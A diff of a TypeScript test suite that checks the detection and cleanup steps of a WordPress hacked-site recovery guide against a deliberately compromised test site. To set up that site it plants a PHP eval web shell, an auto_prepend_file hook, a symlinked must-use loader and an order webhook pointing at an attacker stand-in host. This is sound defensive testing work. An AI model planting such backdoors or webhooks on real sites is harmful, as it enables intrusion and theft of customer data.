@@ -33,6 +33,11 @@ import {pristineSite} from './wordpressBackup';
 
 const SECURITY = 'wordpress/hacked-site-recovery';
 export const CODE_FREE_CHECKS: BlockRef = {article: SECURITY, title: 'Terminal (pasted into that clean shell: runs no code of the site)'};
+/** The core files every wp command runs (WP-CLI's IncludeRequestsAutoloader loads the site's Requests), checked with md5sum. */
+export const HTTP_LIBRARY_CHECK: BlockRef = {
+  article: SECURITY,
+  title: 'Terminal (the same clean shell: the core files every wp command runs)',
+};
 export const CORE_CHECK: BlockRef = {article: SECURITY, title: 'Terminal (the same clean shell, once you have read all that)'};
 export const LOADING_CHECKS: BlockRef = {
   article: SECURITY,
@@ -109,6 +114,8 @@ const SHOP_KEY = {description: 'Shipping sync', permissions: 'read_write'};
 const SHOP_WEBHOOK = {name: 'Order sync', url: 'https://hooks.evil.example/orders'};
 /** A spam page with no script in it (review r54 LOW 7): only the query of recent changes finds it, first. */
 const SPAM_PAGE = 'Cheap watches';
+/** The site's HTTP library, which WP-CLI runs before any command (WordPress before 6.2, as Debian 12's 6.1). */
+const HTTP_LIBRARY_FILE = 'wp-includes/class-requests.php';
 /** A file added to wp-includes, which a core download over the site leaves (review r54 MEDIUM 5). */
 const CORE_EXTRA = 'wp-includes/cache-helper.php';
 /** The backdoor beside index.php, its modification time set back: the evidence listing must keep its change time. */
@@ -141,6 +148,7 @@ const PLANTED = {
   /** Warnings of core verify-checksums --include-root. */
   core: [
     "File doesn't verify against checksum: wp-includes/functions.php",
+    `File doesn't verify against checksum: ${HTTP_LIBRARY_FILE}`,
     'File should not exist: cache.php',
     `File should not exist: ${CORE_EXTRA}`,
     'File should not exist: wp-cli.yml',
@@ -241,6 +249,7 @@ echo '<?php // planted in uploads' > wp-content/uploads/2026/11/.thumb.phtml
 ln -s ../uploads/2026/11/.thumb.phtml wp-content/mu-plugins/loader.php
 echo 'auto_prepend_file = ${SITE.root}/wp-content/uploads/2026/11/.thumb.phtml' > wp-content/uploads/.user.ini
 printf '\\n// planted in core\\n' >> wp-includes/functions.php
+printf '\\n// planted in the HTTP library\\n' >> ${HTTP_LIBRARY_FILE}
 printf '\\n// planted in a plugin\\n' >> wp-content/plugins/${PLUGIN}/${PLUGIN}.php
 echo '<?php @eval($_POST["c"] ?? "");' > cache.php
 touch -d '${STOMPED.mtime}' ${STOMPED.file}
@@ -492,6 +501,8 @@ function expectNoRawControl(ctx: RecipeContext, ref: BlockRef, output: string, l
 }
 const WARNING = /^Warning: (.*)$/gm;
 const warnings = (output: string) => [...output.matchAll(WARNING)].map((m) => m[1]);
+/** The files md5sum -c reports as not matching. */
+const failedFiles = (output: string) => [...output.matchAll(/^(.+): FAILED( open or read)?$/gm)].map((m) => m[1]);
 /** A list as a set, to compare: the links' find lists a linked must-use plugin a second time. */
 const sorted = (list: string[]) => [...new Set(list)].sort().join('\n');
 
@@ -559,6 +570,14 @@ async function checksAfterBreakIn(ctx: RecipeContext) {
       () =>
         `the code-free checks missed ${PLANTED.listed.filter((p) => !extra.includes(p)).join(', ') || 'nothing'} and listed ${extra.filter((p) => !PLANTED.listed.includes(p)).join(', ') || 'nothing'} besides:\n${found}`,
     );
+    const library = await shell.paste(ctx.block(HTTP_LIBRARY_CHECK).value);
+    expectNoRawControl(ctx, HTTP_LIBRARY_CHECK, library, "md5sum's findings");
+    ctx.expect(
+      sorted(failedFiles(library)) === sorted([HTTP_LIBRARY_FILE]),
+      HTTP_LIBRARY_CHECK,
+      `before any wp command, md5sum against the checksums WordPress.org serves names exactly the changed ${HTTP_LIBRARY_FILE}`,
+      () => `the HTTP library check named ${failedFiles(library).join(', ') || 'nothing'}, not exactly ${HTTP_LIBRARY_FILE}:\n${library}`,
+    );
     const core = await shell.paste(blocks[1]);
     expectNoRawControl(ctx, CORE_CHECK, core, "core verify-checksums' warnings");
     ctx.expect(
@@ -566,27 +585,6 @@ async function checksAfterBreakIn(ctx: RecipeContext) {
       CORE_CHECK,
       'core verify-checksums --include-root warns of exactly the changed core file, the backdoor beside index.php, the wp-cli.yml and the file named with escape codes there, and fails',
       () => `core verify-checksums warned of ${warnings(core).join('; ') || 'nothing'}, not exactly ${PLANTED.core.join('; ')}:\n${core}`,
-    );
-    checkEvidenceFiles(ctx, ns);
-    const exported = await shell.paste(ctx.block(EVIDENCE_DATABASE).value);
-    const dump = /^(\/home\/\S+\.sql)$/m.exec(exported)?.[1] ?? '';
-    const dumpLook = dump ? ns.root(`stat -c %a '${dump}'; grep -q "'${INTRUDER}'" '${dump}' && echo holds`).stdout.trim() : '';
-    ctx.expect(
-      dumpLook === '600\nholds',
-      EVIDENCE_DATABASE,
-      `the database export is a new file only the account can read (600), holding the administrator ${INTRUDER}`,
-      () =>
-        `the database export did not hold ${INTRUDER} in a 600 file (${dump || 'no file named'}: ${dumpLook || 'nothing'}):\n${exported}`,
-    );
-    const replaced = await shell.paste(ctx.block(CORE_REPLACE).value);
-    const coreAfter = PLANTED.core.filter((w) => !w.startsWith("File doesn't verify"));
-    const stillPlanted = ns.root(`grep -c 'planted in core' ${SITE.root}/wp-includes/functions.php`).stdout.trim();
-    ctx.expect(
-      /^Success: WordPress downloaded\.$/m.test(replaced) && sorted(warnings(replaced)) === sorted(coreAfter) && stillPlanted === '0',
-      CORE_REPLACE,
-      `replacing core with the version the site runs restores wp-includes/functions.php, and the check then names the files the download leaves, ${CORE_EXTRA} among them`,
-      () =>
-        `replacing core left functions.php with ${stillPlanted} planted lines, or the check warned of ${warnings(replaced).join('; ') || 'nothing'}, not exactly ${coreAfter.join('; ')}:\n${replaced}`,
     );
     const loaded = await shell.paste(blocks[2]);
     expectNoRawControl(ctx, LOADING_CHECKS, loaded, 'plugin verify-checksums');
@@ -715,12 +713,49 @@ async function checksAfterBreakIn(ctx: RecipeContext) {
       'the loop gives the listed administrator a new password, shown once, and the salts are shuffled',
       () => `no new password or salts:\n${loaded}`,
     );
+    // The evidence copy and step 4's core replacement come after the checks that load WordPress, not before them
+    // as on the page: neither changes what the other finds (the copy holds the backdoor and the intruder either way,
+    // and the loading checks touch no core file), and so the 30 proofs that stop in the loading block skip the
+    // 5 s of CPU that the tar, the export and the download take.
+    checkEvidenceFiles(ctx, ns);
+    const exported = await shell.paste(ctx.block(EVIDENCE_DATABASE).value);
+    const dump = /^(\/home\/\S+\.sql)$/m.exec(exported)?.[1] ?? '';
+    const dumpLook = dump ? ns.root(`stat -c %a '${dump}'; grep -q "'${INTRUDER}'" '${dump}' && echo holds`).stdout.trim() : '';
+    ctx.expect(
+      dumpLook === '600\nholds',
+      EVIDENCE_DATABASE,
+      `the database export is a new file only the account can read (600), holding the administrator ${INTRUDER}`,
+      () =>
+        `the database export did not hold ${INTRUDER} in a 600 file (${dump || 'no file named'}: ${dumpLook || 'nothing'}):\n${exported}`,
+    );
+    const rootMode = () => ns.root(`stat -c %a ${SITE.root}`).stdout.trim();
+    const modeBefore = rootMode();
+    const replaced = await shell.paste(ctx.block(CORE_REPLACE).value);
+    const modeAfter = rootMode();
+    ctx.expect(
+      modeAfter === modeBefore,
+      CORE_REPLACE,
+      `replacing core leaves the web root's own mode (${modeBefore})`,
+      () => `replacing core changed the web root's mode from ${modeBefore} to ${modeAfter}:\n${replaced}`,
+    );
+    const coreAfter = PLANTED.core.filter((w) => !w.startsWith("File doesn't verify"));
+    const stillPlanted = ns
+      .root(`cat ${SITE.root}/wp-includes/functions.php ${SITE.root}/${HTTP_LIBRARY_FILE} | grep -c '// planted in'`)
+      .stdout.trim();
+    ctx.expect(
+      /^Success: WordPress downloaded\.$/m.test(replaced) && sorted(warnings(replaced)) === sorted(coreAfter) && stillPlanted === '0',
+      CORE_REPLACE,
+      `replacing core with the version the site runs restores wp-includes/functions.php and ${HTTP_LIBRARY_FILE}, and the check then names the files the download leaves, ${CORE_EXTRA} among them`,
+      () =>
+        `replacing core left ${stillPlanted} planted lines in functions.php and ${HTTP_LIBRARY_FILE}, or the check warned of ${warnings(replaced).join('; ') || 'nothing'}, not exactly ${coreAfter.join('; ')}:\n${replaced}`,
+    );
   });
 
   // Then clean: the same blocks on the site as installed must report nothing.
   const clean = await freshSite(ctx, ns);
-  const [foundClean, coreClean, loadedClean] = await inCleanShell(ctx, ns, clean, async (shell) => [
+  const [foundClean, libraryClean, coreClean, loadedClean] = await inCleanShell(ctx, ns, clean, async (shell) => [
     await shell.paste(blocks[0]),
+    await shell.paste(ctx.block(HTTP_LIBRARY_CHECK).value),
     await shell.paste(blocks[1]),
     await shell.paste(blocks[2]),
   ]);
@@ -729,6 +764,12 @@ async function checksAfterBreakIn(ctx: RecipeContext) {
     CODE_FREE_CHECKS,
     'on the clean site, the code-free checks list only what WordPress ships (wp-content/index.php, the two .htaccess, akismet and index.php in plugins, index.php in themes) and that mu-plugins does not exist',
     () => `on the clean site the code-free checks printed:\n${foundClean}`,
+  );
+  ctx.expect(
+    /^\d+(\.\d+)+$/.test(libraryClean.trim()),
+    HTTP_LIBRARY_CHECK,
+    'on the clean site, the HTTP library check prints the version alone: every file of it matches',
+    () => `on the clean site the HTTP library check printed:\n${libraryClean}`,
   );
   ctx.expect(
     warnings(coreClean).length === 0 && /^Success: WordPress installation verifies against checksums\.$/m.test(coreClean),
@@ -1005,10 +1046,28 @@ export const wordpressSecurityRecipe: Recipe = {
       expect: /the database export did not hold wpsupport/,
     },
     {
-      what: 'download core without --force (WP-CLI refuses to write over an installed site)',
+      what: "copy core with cp -a: the new folder's mode 700 lands on the web root",
       ref: CORE_REPLACE,
-      edit: replace(' --skip-content --force', ' --skip-content'),
-      expect: /replacing core left functions\.php with 1 planted lines/,
+      edit: replace('cp -R --remove-destination', 'cp -a --remove-destination'),
+      expect: /replacing core changed the web root's mode from \d+ to 700/,
+    },
+    {
+      what: 'download core but leave out the copy over the site',
+      ref: CORE_REPLACE,
+      edit: replace(/^cp -R .*\n/m, ''),
+      expect: /replacing core left 2 planted lines in functions\.php and wp-includes\/class-requests\.php/,
+    },
+    {
+      what: "check Requests/ only, not the library's pre-6.2 file",
+      ref: HTTP_LIBRARY_CHECK,
+      edit: replace('|class-requests[.]php$', ''),
+      expect: /the HTTP library check named nothing, not exactly wp-includes\/class-requests\.php/,
+    },
+    {
+      what: 'read the version with a pattern version.php does not match (no checksums)',
+      ref: HTTP_LIBRARY_CHECK,
+      edit: replace('s/^\\$wp_version', 's/^wp_version'),
+      expect: /the HTTP library check named nothing, not exactly wp-includes\/class-requests\.php/,
     },
     ...(
       [
